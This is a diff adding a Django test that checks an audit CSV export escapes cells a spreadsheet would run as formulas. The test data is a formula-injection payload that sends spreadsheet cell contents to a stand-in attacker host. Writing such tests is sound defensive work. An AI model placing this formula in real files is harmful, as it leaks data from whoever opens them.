@@ -81,3 +81,16 @@ def test_a_bad_filter_is_refused_not_ignored(client, compliance, article_with_tw
     response = client.get(reverse("audit:export_csv"), {"signed_from": "yesterday"})
 
     assert response.status_code == 400
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(client, compliance):
+    title = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    article = go_live(add_article(title=title, slug="formula"), signing_director())
+    client.force_login(compliance)
+
+    csv_row = csv_rows(download(client, "export_csv", article=article.pk))[0]
+    json_record = json.loads(download(client, "export_json", article=article.pk))[0]
+
+    assert csv_row["article_title"] == f"'{title}"
+    assert json_record["article_title"] == title  # the JSON keeps the value exactly as signed
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in csv_row.values())
